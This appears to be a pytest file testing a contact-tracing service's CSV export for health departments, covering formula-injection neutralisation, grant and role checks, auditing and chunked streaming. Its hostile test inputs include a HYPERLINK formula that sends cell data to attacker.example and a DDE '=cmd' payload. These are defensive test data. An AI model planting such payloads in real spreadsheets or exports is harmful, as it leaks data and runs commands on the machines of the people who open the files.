"""The trace-contacts export for health departments, through the real Exposure
server: CSV with a byte-order mark, crafted venue names kept as text, an active
grant required, the row count audited, and a large trace streamed in chunks."""

from __future__ import annotations

import csv
import io
import json
import uuid

import pytest
import stopcovid.client as clients
from stopcovid.common.v1 import common_pb2
from stopcovid.exposure.v1 import exposure_service_pb2 as pb

from services.exposure import export
from tests.support.accountability_helpers import copy_contacts, keystore, seed_trace
from tests.support.checkin_helpers import create_venue, enroll
from tests.support.database import Query
from tests.support.exposure_helpers import REGISTRAR, exposure
from tests.support.servers import Servers

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Open the report")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\u200b=cmd|' /C calc'!A0",  # ZWSP survives the name's blank stripping
    "\uff1d1+1",  # full-width equals sign
]
KHMER = 'ផ្សារធំថ្មី, "Central" Market'
ACTION = "stopcovid.exposure.v1.ExposureService/ExportTraceContacts"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\u3000@x", "'\u3000@x"),
        ("ផ្សារ", "ផ្សារ"),
        ("Market = good", "Market = good"),
        ("2026-10-01 08:00:00", "2026-10-01 08:00:00"),
        ("", ""),
    ],
)
def test_cells_that_start_a_formula_are_neutralised(cell: str, shown: str) -> None:
    assert export.neutralise(cell) == shown


def _seed(
    servers: Servers, db_conn: Query, names: list[str]
) -> tuple[dict[str, uuid.UUID], list[str]]:
    """One succeeded trace with one contact at each venue named; returns its ids and
    the contacts' person ids in row order."""
    venues = [create_venue(servers, name) for name in names]
    people = [enroll(servers, f"+8551200090{i:02d}").person_id for i in range(len(names) + 1)]
    ids = seed_trace(
        db_conn,
        keystore(servers.settings),
        case_person=uuid.UUID(people[0]),
        venue=venues[0],
        contacts=[(uuid.UUID(p), "queued") for p in people[1:]],
    )
    for number, venue in enumerate(venues, start=1):
        db_conn(
            "UPDATE trace_contacts SET venue_id = $1 WHERE trace_id = $2 AND row_number = $3",
            uuid.UUID(venue),
            ids["trace"],
            number,
        )
    db_conn(
        "UPDATE venues SET address = '=cmd|'' /C calc''!A0' WHERE venue_id = $1",
        uuid.UUID(venues[0]),
    )
    return ids, people[1:]


def _export(
    servers: Servers, trace_id: uuid.UUID, *, include_person_ids: bool = False
) -> list[pb.ExportTraceContactsResponse]:
    with exposure(servers) as official:
        request = pb.ExportTraceContactsRequest(
            trace_id=str(trace_id), include_person_ids=include_person_ids
        )
        return list(official.rpc.ExportTraceContacts(request))


def _parse(chunks: list[pb.ExportTraceContactsResponse]) -> list[list[str]]:
    data = b"".join(c.content for c in chunks)
    assert data.startswith(b"\xef\xbb\xbf")  # the byte-order mark, once
    assert data.count(b"\xef\xbb\xbf") == 1
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_export_keeps_crafted_names_as_text(servers: Servers, db_conn: Query) -> None:
    ids, people = _seed(servers, db_conn, [*HOSTILE, KHMER])
    chunks = _export(servers, ids["trace"], include_person_ids=True)
    assert chunks[0].content_type == "text/csv; charset=utf-8"
    assert chunks[-1].row_count == len(HOSTILE) + 1
    header, *rows = _parse(chunks)
    assert header == [*export.COLUMNS, "person_id"]
    column = {name: i for i, name in enumerate(header)}
    names = [row[column["venue_name"]] for row in rows]
    assert names == [f"'{name}" for name in HOSTILE] + [KHMER]  # Khmer, commas, quotes intact
    assert rows[0][column["venue_address"]] == "'=cmd|' /C calc'!A0"
    assert [row[column["person_id"]] for row in rows] == people
    assert {row[column["province_code"]] for row in rows} == {"KH-12"}
    assert {row[column["province_name_km"]] for row in rows} == {"រាជធានីភ្នំពេញ"}
    assert {row[column["risk_level"]] for row in rows} == {"MEDIUM"}
    assert rows[0][column["overlap_minutes"]] == "60"
    for row in rows:  # no cell of the file would run as a formula
        for cell in row:
            assert export.neutralise(cell) == cell or cell.startswith("'")
            assert cell[:1] not in export.FORMULA_TRIGGERS
    (audited,) = db_conn(
        "SELECT details, case_id, grant_id, principal FROM audit_events WHERE action = $1", ACTION
    )
    details = json.loads(audited["details"])
    assert details["rows"] == len(rows) and details["person_ids_decrypted"] == len(rows)
    assert (audited["case_id"], audited["grant_id"]) == (ids["case"], ids["grant"])
    assert audited["principal"] == "dev-health-official"


def test_export_without_person_ids_and_by_level(servers: Servers, db_conn: Query) -> None:
    ids, _ = _seed(servers, db_conn, ["Psar Leu", "Psar Chas"])
    db_conn("UPDATE trace_contacts SET level_rank = 4 WHERE row_number = 1")
    chunks = _export(servers, ids["trace"])
    header, *rows = _parse(chunks)
    assert header == list(export.COLUMNS)
    assert len(rows) == 2 and rows[0][1] == "HIGH"  # highest risk first
    with exposure(servers) as official:
        high = list(
            official.rpc.ExportTraceContacts(
                pb.ExportTraceContactsRequest(
                    trace_id=str(ids["trace"]), min_risk_level=common_pb2.RISK_LEVEL_HIGH
                )
            )
        )
    assert high[-1].row_count == 1


def test_export_needs_an_active_grant_and_is_refused_precisely(
    servers: Servers, db_conn: Query
) -> None:
    ids, _ = _seed(servers, db_conn, ["Psar Leu"])
    with exposure(servers) as official:
        with pytest.raises(clients.NotFound):
            list(
                official.rpc.ExportTraceContacts(
                    pb.ExportTraceContactsRequest(trace_id=str(uuid.uuid4()))
                )
            )
        with pytest.raises(clients.InvalidArgument) as bad:
            list(
                official.rpc.ExportTraceContacts(
                    pb.ExportTraceContactsRequest(trace_id=str(ids["trace"]), min_risk_level=99)  # type: ignore[arg-type]
                )
            )
        assert bad.value.metadata["field"] == "min_risk_level"
    with exposure(servers, REGISTRAR) as front, pytest.raises(clients.PermissionDenied) as role:
        list(
            front.rpc.ExportTraceContacts(pb.ExportTraceContactsRequest(trace_id=str(ids["trace"])))
        )
    assert role.value.reason == "ROLE_NOT_ALLOWED"
    db_conn(
        "UPDATE access_grants SET revoke_time = now(), revoker = 'committee-1' WHERE grant_id = $1",
        ids["grant"],
    )
    with exposure(servers) as official, pytest.raises(clients.PermissionDenied) as revoked:
        list(
            official.rpc.ExportTraceContacts(
                pb.ExportTraceContactsRequest(trace_id=str(ids["trace"]))
            )
        )
    assert revoked.value.reason == "GRANT_REVOKED"
    outcomes = [
        r["outcome"] for r in db_conn("SELECT outcome FROM audit_events WHERE action = $1", ACTION)
    ]
    assert outcomes == ["denied"]  # the refusal is audited; nothing was exported


def test_a_large_trace_streams_in_chunks_that_end_at_rows(servers: Servers, db_conn: Query) -> None:
    ids, _ = _seed(servers, db_conn, [KHMER])
    rows_wanted = 3000
    copy_contacts(db_conn, ids["trace"], rows_wanted)
    chunks = _export(servers, ids["trace"], include_person_ids=True)
    assert len(chunks) > 2
    assert all(c.content.endswith(b"\r\n") for c in chunks)
    assert [c.content_type for c in chunks].count("text/csv; charset=utf-8") == 1
    assert all(c.row_count == 0 for c in chunks[:-1]) and chunks[-1].row_count == rows_wanted
    header, *rows = _parse(chunks)
    assert len(rows) == rows_wanted
    assert {row[header.index("venue_name")] for row in rows} == {KHMER}
